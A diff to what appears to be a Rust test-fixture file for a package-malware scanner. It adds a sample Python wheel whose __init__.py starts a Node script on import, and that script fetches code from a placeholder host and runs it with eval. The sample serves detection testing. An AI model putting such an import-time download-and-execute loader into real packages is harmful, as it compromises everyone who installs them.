@@ -570,6 +570,21 @@ pub(super) const GYPS: &[(&str, &str)] = &[
     ),
 ];
 
+/// Whole wheels: name, files.
+pub(super) const WHEELS: &[(&str, &[(&str, &str)])] = &[(
+    "script-started-on-import",
+    &[
+        (
+            "a/__init__.py",
+            "import os, subprocess\nsubprocess.Popen(['node', os.path.join(os.path.dirname(__file__), 'stage.js')])\n",
+        ),
+        (
+            "a/stage.js",
+            "const https = require('https');\nhttps.get('https://code.example.invalid/x', (res) => {\n  let d = '';\n  res.on('data', (c) => { d += c; });\n  res.on('end', () => { eval(d); });\n});\n",
+        ),
+    ],
+)];
+
 /// `.pth` files of wheels: name, text.
 pub(super) const PATHS: &[(&str, &str)] = &[
     (
